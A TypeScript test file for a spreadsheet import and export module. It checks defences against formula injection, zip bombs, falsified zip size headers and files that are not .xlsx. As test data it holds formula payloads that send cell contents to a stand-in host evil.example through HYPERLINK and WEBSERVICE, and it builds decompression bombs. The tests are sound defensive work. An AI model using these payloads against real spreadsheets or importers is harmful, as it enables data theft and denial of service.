import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { readSheet, SheetError, writeSheet, type SheetFault } from './spreadsheet';

const LIMITS = { maxBytes: 2 * 1024 * 1024, maxUnpackedBytes: 20 * 1024 * 1024, maxRows: 3, columns: 3 };
const MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=already quoted"];

async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  fill(book.addWorksheet('data'));
  return Buffer.from(await book.xlsx.writeBuffer());
}

async function fault(data: Buffer, limits = LIMITS): Promise<SheetFault | undefined> {
  try {
    await readSheet(data, limits);
    return undefined;
  } catch (error) {
    if (error instanceof SheetError) return error.fault;
    throw error;
  }
}

/** Every worksheet part of the package, as XML text. */
async function sheetXml(data: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(data);
  const parts = Object.keys(zip.files).filter((name) => name.startsWith('xl/worksheets/') && name.endsWith('.xml'));
  return (await Promise.all(parts.map((name) => zip.file(name)!.async('string')))).join('\n');
}

describe('writing', () => {
  it('values that look like formulas round-trip as text, and no cell of the file is a formula', async () => {
    const data = await writeSheet({
      sheetName: 'errors',
      headers: [['a', 'b']],
      rows: MALICIOUS.map((text) => [text, 'x']),
      lists: [{ column: 2, values: ['20GP', '40HC'] }],
    });
    const xml = await sheetXml(data);
    expect(xml).not.toMatch(/<f[\s>]/);
    const rows = await readSheet(data, { ...LIMITS, maxRows: 50 });
    // XML reads a bare carriage return as a line feed: still text, never a formula.
    expect(rows.map((r) => r.cells[0])).toEqual(MALICIOUS.map((text) => ({ text: text.replace('\r', '\n') })));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(data as unknown as ArrayBuffer);
    book.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.numFmt).toBe('@');
      }),
    );
  });
});

describe('reading', () => {
  it('reads the first sheet only, from row 2, every cell as text, blank rows left out', async () => {
    const data = await workbook((sheet) => {
      sheet.addRow(['h1', 'h2', 'h3']);
      sheet.addRow(['CNSHA', 2, new Date(Date.UTC(2026, 2, 1))]);
      sheet.addRow([]);
      sheet.addRow([{ richText: [{ text: 'rich ' }, { text: 'text' }] }, true, 18500.5]);
      sheet.workbook.addWorksheet('second').addRow(['ignored']);
    });
    expect(await readSheet(data, LIMITS)).toEqual([
      { row: 2, cells: [{ text: 'CNSHA' }, { text: '2' }, { text: '2026-03-01' }] },
      { row: 4, cells: [{ text: 'rich text' }, { text: 'TRUE' }, { text: '18500.5' }] },
    ]);
  });

  it('a formula is marked and never read as its result', async () => {
    const data = await workbook((sheet) => {
      sheet.addRow(['h']);
      sheet.addRow([{ formula: 'WEBSERVICE("http://evil.example")', result: 'CNSHA' }, 'x']);
    });
    expect(await readSheet(data, LIMITS)).toEqual([{ row: 2, cells: [{ text: '', formula: true }, { text: 'x' }, { text: '' }] }]);
  });

  it('refuses what is not an .xlsx by its content: text, a renamed PDF, another zip', async () => {
    expect(await fault(Buffer.from('POL,POD\nCNSHA,JPOSA\n'))).toBe('notXlsx');
    expect(await fault(Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF'))).toBe('notXlsx');
    const zip = new JSZip();
    zip.file('readme.txt', 'not a workbook');
    expect(await fault(await zip.generateAsync({ type: 'nodebuffer' }))).toBe('notXlsx');
  });

  it('refuses an .xlsx whose package is broken', async () => {
    const good = await workbook((sheet) => sheet.addRow(['h']));
    const zip = await JSZip.loadAsync(good);
    zip.file('xl/workbook.xml', '<not xml');
    expect(await fault(await zip.generateAsync({ type: 'nodebuffer' }))).toBe('notXlsx');
  });

  it('refuses a small file that would unpack past the limit, before unpacking it', async () => {
    const zip = await JSZip.loadAsync(await workbook((sheet) => sheet.addRow(['h'])));
    zip.file('xl/media/padding.bin', Buffer.alloc(30 * 1024 * 1024));
    const bomb = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    expect(bomb.length).toBeLessThan(LIMITS.maxBytes);
    expect(await fault(bomb)).toBe('unpackedTooLarge');
  });

  /** A workbook whose first sheet's data is replaced by `sheetData` (XML), packed small. */
  async function withSheetData(sheetData: string): Promise<Buffer> {
    const zip = await JSZip.loadAsync(await workbook((sheet) => sheet.addRow(['h'])));
    const part = Object.keys(zip.files).find((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))!;
    const xml = (await zip.file(part)!.async('string')).replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${sheetData}</sheetData>`);
    zip.file(part, xml);
    return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
  }

  it('refuses a small file of countless blank or tiny rows, or of one row of countless cells, before parsing it', async () => {
    const rows = Array.from({ length: 30_000 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>1</v></c></row>`).join('');
    const manyRows = await withSheetData(`<row r="1"><c r="A1" t="inlineStr"><is><t>h</t></is></c></row>${rows}`);
    expect(manyRows.length).toBeLessThan(LIMITS.maxBytes / 4);
    expect(await fault(manyRows)).toBe('tooManyRows');
    const blank = await withSheetData(Array.from({ length: 30_000 }, (_, i) => `<row r="${i + 1}" ht="20" customHeight="1"/>`).join(''));
    expect(await fault(blank)).toBe('tooManyRows');
    const wide = await withSheetData(`<row r="1">${Array.from({ length: 60_000 }, (_, i) => `<c r="A${i}"><v>1</v></c>`).join('')}</row>`);
    expect(await fault(wide)).toBe('unpackedTooLarge');
  });

  it('refuses a zip whose directory understates what it unpacks to, by unpacking it under the limit', async () => {
    const zip = await JSZip.loadAsync(await workbook((sheet) => ['h', 'a'].forEach((v) => sheet.addRow([v]))));
    const size = LIMITS.maxUnpackedBytes + 1024;
    zip.file('xl/media/padding.bin', Buffer.alloc(size));
    const lying = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    // Both the central directory and the local header claim ten bytes.
    for (let at = 0; at < lying.length - 30; at++) {
      const signature = lying.readUInt32LE(at);
      if (signature === 0x02014b50 && lying.readUInt32LE(at + 24) === size) lying.writeUInt32LE(10, at + 24);
      if (signature === 0x04034b50 && lying.readUInt32LE(at + 22) === size) lying.writeUInt32LE(10, at + 22);
    }
    expect(await fault(lying)).toBe('unpackedTooLarge');
  });

  it('refuses an empty sheet, a header alone, too many rows and too many bytes', async () => {
    expect(await fault(await workbook(() => {}))).toBe('sheetEmpty');
    expect(await fault(await workbook((sheet) => sheet.addRow(['h1', 'h2'])))).toBe('sheetEmpty');
    const four = await workbook((sheet) => ['h', 'a', 'b', 'c', 'd'].forEach((v) => sheet.addRow([v])));
    expect(await fault(four)).toBe('tooManyRows');
    expect(await fault(four, { ...LIMITS, maxRows: 4 })).toBeUndefined();
    expect(await fault(four, { ...LIMITS, maxBytes: four.length - 1 })).toBe('fileTooLarge');
  });
});
